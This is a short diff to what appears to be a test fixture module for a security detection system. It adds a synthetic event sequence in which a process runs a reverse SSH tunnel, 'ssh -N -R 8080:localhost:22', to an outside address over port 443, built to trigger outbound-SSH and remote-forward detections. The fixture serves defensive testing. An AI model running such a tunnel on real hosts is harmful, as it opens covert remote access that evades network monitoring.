@@ -128,3 +128,16 @@ def tcp(cookie: int, destination: str = "203.0.113.9", port: int = 22, **facts: 
         direction=facts.pop("direction", flow_pb2.FLOW_DIRECTION_OUTBOUND),
         **facts,
     )
+
+
+def tunnel(kernel: Kernel, process: ProcessKey, cookie: int = 5) -> list[event_pb2.Event]:
+    """A process that runs `ssh -R` and speaks SSH to port 443: raises ssh-outbound and ssh-remote-forward."""
+    flow = tcp(cookie, port=443)
+    banner = b"SSH-2.0-OpenSSH_9.2\r\n"
+    both = (True, False)
+    return [
+        kernel.exec(process, "ssh", "-N", "-R", "8080:localhost:22", "u@203.0.113.9", exe="/usr/bin/ssh"),
+        kernel.flow(process, "connect", flow),
+        kernel.flow(process, "establish", flow),
+        *(kernel.flow(process, "payload", flow, outbound=out, data=banner, length=len(banner)) for out in both),
+    ]
